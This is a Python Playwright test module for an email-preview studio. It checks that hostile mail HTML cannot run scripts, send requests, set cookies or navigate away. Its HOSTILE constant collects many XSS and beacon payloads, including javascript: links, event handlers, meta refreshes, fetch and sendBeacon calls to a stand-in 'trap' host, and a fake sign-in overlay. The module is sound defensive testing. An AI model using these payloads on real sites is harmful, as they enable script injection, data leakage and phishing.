"""A hostile mail cannot touch the studio: nothing in it runs, sends, loads or leads away, and the page stays usable."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import closing, contextmanager
from functools import cached_property
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Dialog, Frame, Page, expect

from backmail.cli.serving import listening, serving
from backmail.config import find_project
from backmail.desk.preview.drafts import Drafts
from backmail.desk.preview.looks import Look, Pictures, shown
from backmail.desk.preview.mail import Mail
from backmail.web.studio.events import Events
from backmail.web.studio.export import export
from backmail.web.studio.site import site
from tests.browser.studio import (
    OTHER,
    PATIENCE,
    SLUG,
    STEPS,
    Ears,
    Project,
    View,
    new_project,
    opened,
    overflow,
    ready,
    settled,
)  # fmt: skip

MAIL = f"/c/{SLUG}/e/{STEPS[1]}"
OWN = "for (const one of [window, top, parent]) try { one.owned = true } catch {}"
# All that a mail might try. TRAP: a server of somebody else's; STUDIO: ours.
HOSTILE = f"""<!doctype html><html onclick="{OWN}"><head><title>Mail</title>
<base href="TRAP/base/" target="_top">
<meta http-equiv="refresh" content="0;url=TRAP/refresh">
<meta http-equiv="refresh" content="0;url=javascript:top.owned=true">
<meta http-equiv="Set-Cookie" content="owned=1">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<link rel="stylesheet" href="TRAP/style.css"><link rel="icon" href="TRAP/icon.png">
<link rel="preload" as="image" href="TRAP/preload.png"><link rel="prefetch" href="TRAP/prefetch">
<link rel="modulepreload" href="TRAP/module.js"><link rel="manifest" href="TRAP/manifest.json">
<style>@import "TRAP/import.css"; @font-face {{ font-family: far; src: url(TRAP/font.woff2) }}
body {{ font-family: far; background: url("TRAP/ground.png") }} </style>
<style></style><script>{OWN}</script></style>
<script>
{OWN}
document.cookie = "owned=1"; try {{ localStorage.owned = 1 }} catch {{}}
try {{ parent.document.querySelector("h1").textContent = "owned" }} catch {{}}
fetch("TRAP/fetch"); new Image().src = "TRAP/image"; navigator.sendBeacon?.("TRAP/beacon"); open("TRAP/popup");
alert("owned"); top.location = "TRAP/top";
</script>
<script src="TRAP/script.js"></script><script type="module">import "TRAP/module.js"; {OWN}</script>
</head><body onload="{OWN}" onpageshow="{OWN}" background="TRAP/body.png">
<p id="there">The words of this mail.</p>
<img src="TRAP/picture.png" onerror="{OWN}" alt=""><img srcset="TRAP/set.png 1x" alt="">
<img src="/nothing.png" onerror="{OWN}" alt=""><input type="image" src="TRAP/input.png" alt="">
<svg onload="{OWN}"><script>{OWN}</script><image href="TRAP/svg.png"/><use href="TRAP/use.svg#a"/>
<a id="svg" xlink:href="javascript:{OWN}"><text y="20">svg</text></a>
<animate attributeName="href" values="javascript:{OWN}"/><set attributeName="onmouseover" to="{OWN}"/></svg>
<math><mtext><a id="math" href="javascript:{OWN}">math</a></mtext></math>
<iframe src="TRAP/frame"></iframe><iframe srcdoc="<script>{OWN}</script>"></iframe>
<iframe src="javascript:{OWN}"></iframe><object data="TRAP/object"></object><embed src="TRAP/embed">
<object data="data:text/html,<script>{OWN}</script>"></object><portal src="TRAP/portal"></portal>
<video src="TRAP/video.mp4" poster="TRAP/poster.png" autoplay></video><audio src="TRAP/audio.mp3" autoplay></audio>
<details open ontoggle="{OWN}"><summary>more</summary></details><marquee onstart="{OWN}">news</marquee>
<input autofocus onfocus="{OWN}" id="field"><select autofocus onfocus="{OWN}"></select>
<form action="TRAP/form" method="post" target="_top"><input name="a" value="b"><button id="send">Send</button></form>
<form action="STUDIO{MAIL}" method="post"><input name="subject" value="owned"><button id="save">Save</button></form>
<button form="none" formaction="javascript:{OWN}" id="action" onclick="{OWN}">Go</button>
<form id="none" onsubmit="{OWN}"></form>
<p style="animation: a 1s" onanimationstart="{OWN}" onmouseover="{OWN}" onpointerdown="{OWN}">Words</p>
<p style="background: url(TRAP/inline.png); behavior: url(TRAP/behaviour.htc); list-style: url('TRAP/list.png')">W</p>
<a id="script" href="javascript:{OWN}">script</a> <a id="script2" href=" java&#10;script:{OWN}">script</a>
<a id="data" href="data:text/html,<script>{OWN}</script>" target="_top">data</a>
<a id="top" href="TRAP/left" target="_top" ping="TRAP/ping">out</a>
<a id="blank" href="TRAP/new" target="_blank">new</a>
<a id="parent" href="TRAP/parent" target="_parent" rel="opener">parent</a> <a id="base" href="on">on</a>
<a id="load" href="TRAP/file" download>file</a> <a id="far" href="STUDIO/c/{SLUG}" target="_top">studio</a>
<!--[if mso]><script>{OWN}</script><![endif]--><!--><script>{OWN}</script>-->
<noscript><p title="</noscript><img src=TRAP/no.png onerror='{OWN}'>"></p></noscript>
<template><script>{OWN}</script></template><textarea></textarea><script>{OWN}</script>
<div id="over" style="position: fixed; inset: 0; z-index: 2147483647; background: #c00; pointer-events: none">
Your session has ended: sign in</div>
</body></html>"""
PRESSED = [
    "svg",
    "math",
    "send",
    "save",
    "action",
    "script",
    "script2",
    "data",
    "top",
    "blank",
    "parent",
    "base",
    "load",
    "far",
]
# Presses what has one of these ids, but what leads to our own page only if it is the one; returns those.
PRESS = """names => names.filter(name => {
    const one = document.getElementById(name), told = one?.getAttribute("href")?.startsWith("/studio/link");
    if (one && (!told || names.length === 2)) {
        one.dispatchEvent(new MouseEvent("click", {bubbles: true, cancelable: true, view: window}));
    }
    return told;
})"""
MEGABYTES = 2


class Trap:
    """A server of somebody else's, which keeps what it is asked for."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        trap = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # http.server calls it so
                trap.hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05})

    @contextmanager
    def open(self) -> Iterator[Trap]:
        """Answer whoever asks."""
        self._thread.start()
        yield self
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


@pytest.fixture(scope="module")
def trap() -> Iterator[Trap]:
    """The trap of this module."""
    with Trap().open() as trap:
        yield trap


@pytest.fixture(scope="module")
def project(tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A project that no mail may change."""
    return new_project(tmp_path_factory.mktemp("hostile") / "my-news")


@contextmanager
def looked_at(project: Project) -> Iterator[str]:
    """Serve a project's studio in this process, and give its address."""
    events = Events()
    served = site(Drafts(find_project(project.root)), events=events)
    with listening(0) as listener, serving(served, listener, grace=1), closing(events):
        yield f"http://127.0.0.1:{listener.getsockname()[1]}/studio"


@pytest.fixture
def hostile(project: Project, trap: Trap, monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[str, str]]:
    """The address of a studio in which every mail is hostile, and that HTML."""
    trap.hits.clear()
    with looked_at(project) as studio:
        html = HOSTILE.replace("TRAP", trap.url).replace("STUDIO", studio)
        as_html(monkeypatch, html)
        yield studio, html


def as_html(monkeypatch: pytest.MonkeyPatch, html: str) -> None:
    """Let every mail have this HTML, as if a theme wrote it."""
    patched = cached_property(lambda mail: html)
    patched.__set_name__(Mail, "html")
    monkeypatch.setattr(Mail, "html", patched)


def owned(page: Page) -> bool:
    """Return whether a script of the mail left its mark, in the page or in a frame of it."""
    shown = [frame for frame in page.frames if frame.url.startswith(("http:", "file:"))]  # no frame that was refused
    return any(frame.evaluate("window.owned ?? false") for frame in shown)


def untouched(page: Page, ears: Ears, trap: Trap, url: str) -> None:
    """See that a page is where it was, and nothing was run, kept, sent or asked for."""
    assert page.url == url
    assert len(page.context.pages) == 1
    assert not owned(page)
    assert page.evaluate("Object.keys(localStorage)") == []
    assert page.context.cookies() == []
    assert (trap.hits, ears.away) == ([], [])


def pressed(frame: Frame) -> set[str]:
    """Press all that a hostile mail offers; what leads to a page of ours one by one, and return what does."""
    told = set(frame.evaluate(PRESS, PRESSED))
    for name in sorted(told):
        there = frame.url
        frame.evaluate(PRESS, [name, ""])
        frame.wait_for_url("**/studio/link?*")
        expect(frame.locator("h1")).to_have_text("Where this link leads")
        frame.goto(there)
    return told


def test_the_hostile_mail_is_one(project: Project, trap: Trap, view: View) -> None:
    trap.hits.clear()
    page = view("<p>")
    said: list[str] = []

    def asked(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", asked)
    page.route("**/mail", lambda route: route.fulfill(
        body=HOSTILE.replace("TRAP", trap.url).replace("STUDIO", trap.url), content_type="text/html"
    ))  # fmt: skip
    page.goto(f"{trap.url}/mail", wait_until="commit")
    page.wait_for_url("**/top")
    assert said == ["owned"]
    assert {"/style.css", "/fetch", "/top"} <= set(trap.hits)
    assert page.context.cookies()


@pytest.mark.parametrize("look", list(Look))
def test_a_hostile_mail_does_nothing_in_the_studio(
    look: Look, hostile: tuple[str, str], trap: Trap, project: Project, view: View
) -> None:
    studio, _ = hostile
    before = project.step(2).read_bytes()
    for pictures in (Pictures.OFF, Pictures.OWN):
        url = f"{studio}{MAIL}?look={look}&img={pictures}&with=misaki"
        page, ears = opened(view, url)
        ready(page)
        frame = page.frame_locator("iframe.mail").first
        expect(frame.locator("#there")).to_have_text("The words of this mail.")
        untouched(page, ears, trap, url)
        if pictures is Pictures.OWN:
            assert {"top", "blank", "parent", "far"} <= pressed(page.frames[1])
            untouched(page, ears, trap, url)
        expect(page.locator("h1")).to_have_text("Read this before your first exercise")
        assert not any("owned" in complaint for complaint in ears.complaints)
        page.locator("#tab-inbox").click()  # nothing of the mail lies over it
        page.wait_for_url("**/inbox")
        page.context.close()
    assert project.step(2).read_bytes() == before


def test_pictures_of_others_are_fetched_when_asked_for_and_nothing_else(
    hostile: tuple[str, str], trap: Trap, view: View
) -> None:
    studio, _ = hostile
    page, ears = opened(view, f"{studio}{MAIL}?img=all")
    ready(page)
    page.wait_for_load_state("networkidle")
    assert "/picture.png" in trap.hits
    pictures = {"picture", "set", "input", "svg", "ground", "inline", "list", "body", "poster"}
    assert {hit.strip("/").removesuffix(".png") for hit in trap.hits} <= pictures
    assert not owned(page)
    assert ears.away == []


@pytest.mark.parametrize("form", ["text", "source", "mime", "headers"])
def test_the_source_of_a_hostile_mail_is_only_text(form: str, hostile: tuple[str, str], trap: Trap, view: View) -> None:
    studio, _ = hostile
    page, ears = opened(view, f"{studio}{MAIL}?view={form}")
    expect(page.locator("#status")).to_contain_text("Shows what you save")
    untouched(page, ears, trap, page.url)
    assert ears.complaints == []


def test_the_very_bytes_of_a_hostile_mail_do_nothing_either(hostile: tuple[str, str], trap: Trap, view: View) -> None:
    studio, html = hostile
    url = f"{studio}/raw/{SLUG}/{STEPS[1]}.html"
    page, ears = opened(view, url)
    assert page.request.get(url).text() == html
    expect(page.locator("#there")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert page.url == url
    assert trap.hits == []
    assert page.context.cookies() == []
    for name in ("script", "script2", "action", "svg"):
        page.locator(f"#{name}").dispatch_event("click")
    assert not owned(page)
    assert (page.url, ears.away) == (url, [])


@pytest.mark.parametrize("look", list(Look))
def test_what_is_shown_is_harmless_without_any_frame_or_header(
    look: Look, trap: Trap, view: View, tmp_path: Path
) -> None:
    trap.hits.clear()
    html = HOSTILE.replace("TRAP", trap.url).replace("STUDIO", trap.url)
    file = tmp_path / "mail.html"
    file.write_text(shown(html, look, Pictures.OWN, lambda target: ""), encoding="utf-8")
    page, ears = opened(view, file.as_uri())
    expect(page.locator("#there")).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert pressed(page.main_frame) == set()
    untouched(page, ears, trap, file.as_uri())


def test_an_exported_hostile_mail_does_nothing(
    project: Project, trap: Trap, view: View, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    trap.hits.clear()
    as_html(monkeypatch, HOSTILE.replace("TRAP", trap.url).replace("STUDIO", trap.url))
    export(Drafts(find_project(project.root), OTHER), tmp_path / "pages")
    file = tmp_path / "pages" / "c" / OTHER / "e" / STEPS[0] / "anna" / "html.html"
    page, ears = opened(view, file.as_uri())
    settled(page)
    page.wait_for_load_state("networkidle")
    assert page.url == file.as_uri()
    assert not owned(page)
    assert (trap.hits, ears.away, page.context.cookies()) == ([], [], [])


def test_a_link_of_a_mail_tells_where_it_leads_and_leads_nowhere(project: Project, view: View) -> None:
    with looked_at(project) as studio:
        page, ears = opened(view, studio + MAIL)
        ready(page)
        frame = page.frame_locator("iframe.mail")
        frame.get_by_role("link", name="Unsubscribe").click()
        expect(frame.locator("h1")).to_have_text("Where this link leads", timeout=PATIENCE)
        expect(frame.locator("main")).to_contain_text("ends all mail to this reader")
        assert page.url == studio + MAIL
        page.frames[1].evaluate("location.replace('/studio/link?to=' + encodeURIComponent('javascript:top.owned=1'))")
        expect(frame.locator("code")).to_have_text("javascript:top.owned=1")
        assert frame.locator("a").count() == 0
        assert not owned(page)
        assert (ears.complaints, ears.away) == ([], [])


def test_a_hostile_step_is_text_in_the_mail_and_everywhere_else(project: Project, view: View) -> None:
    own = "<script>top.owned=true</script><img src=x onerror=top.owned=true>"
    file = project.step(3)
    kept = file.read_bytes()
    body = f"{own}\n\n<iframe src=//example.org></iframe><form action=//example.org><button>Send</button></form>\n"
    links = "[press](javascript:top.owned=true) <meta http-equiv=refresh content=0;url=//example.org>\n"
    project.change(file, "subject: ", "subject: '\"><script>top.owned=true</script>' # ")
    project.change(file, "preheader: ", f"preheader: '{own}' # ")
    project.change(file, "\n## ", f"\n{body}\n{links}\n## ")
    try:
        with looked_at(project) as studio:
            page, ears = opened(view, f"{studio}/c/{SLUG}")
            for path in ("", f"/e/{STEPS[2]}", f"/e/{STEPS[2]}?view=source", f"/e/{STEPS[2]}?edit=1", "/inbox"):
                page.goto(f"{studio}/c/{SLUG}{path}")
                expect(page.locator("#status")).to_contain_text("Shows what you save")
                settled(page)
                expect(page.locator("main")).to_contain_text("<script>top.owned=true</script>")
                assert not owned(page)
                assert page.locator("main script, main form:not(.move):not(.fields)").count() == 0
            assert (ears.complaints, ears.away) == ([], [])
    finally:
        file.write_bytes(kept)


def test_with_a_table_of_two_megabytes_the_page_stays_usable(
    project: Project, view: View, monkeypatch: pytest.MonkeyPatch
) -> None:
    cells = "".join(f'<td style="color:#1{n}{n};background:#fff" class=c>cell</td>' for n in range(8))
    row = f"<tr>{cells}</tr>\n"
    rows = row * (MEGABYTES * 1024 * 1024 // len(row) + 1)
    as_html(monkeypatch, f"<!doctype html><html><body><table>{rows}</table><p id=end>The end</p></body></html>")
    with looked_at(project) as studio:
        page, ears = opened(view, f"{studio}{MAIL}?look=inverted")
        ready(page)
        expect(page.frame_locator("iframe.mail").locator("#end")).to_be_attached(timeout=PATIENCE)
        page.locator("#choice-look").get_by_text("Light").click(timeout=PATIENCE)
        page.wait_for_url(f"**{MAIL}", timeout=PATIENCE, wait_until="commit")
        page.locator(".views").get_by_text("Source").click(timeout=PATIENCE)
        expect(page.locator("main")).to_contain_text("more characters", timeout=PATIENCE)
        assert page.locator(".code li").count() < 20_000
        page.locator("#tab-sequence").click(timeout=PATIENCE)
        page.wait_for_url(f"**/c/{SLUG}", timeout=PATIENCE, wait_until="commit")
        expect(page.locator(f"#mail-{STEPS[1]}")).to_contain_text("2.0 MB", timeout=PATIENCE)
        assert overflow(page) <= 0
        assert (ears.complaints, ears.away) == ([], [])
